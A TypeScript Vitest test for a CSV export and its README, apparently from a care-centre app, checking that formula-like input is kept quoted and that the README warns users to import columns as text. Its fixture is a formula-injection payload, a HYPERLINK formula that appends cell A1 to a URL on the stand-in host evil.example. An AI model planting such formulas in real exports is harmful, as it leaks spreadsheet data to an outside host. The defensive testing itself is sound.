import { expect, it } from 'vitest'
import { csv } from './csv.ts'
import { readmeOf } from './readme.ts'

it('what a stranger typed as a formula stays as it was typed, and the README says how to open it', () => {
  const typed = '=HYPERLINK("http://evil.example/?"&A1;"Ouvrir")'
  expect(csv(['name'], [[typed]])).toContain(`"${typed.replaceAll('"', '""')}"`)
  const readme = readmeOf([], { centre: 'Maison Alba', exportedAt: '2026-11-30T10:00:00.000Z' }).replaceAll('\n  ', ' ')
  expect(readme).toContain('Do not open a table by a double click')
  expect(readme).toContain('every column as text')
})
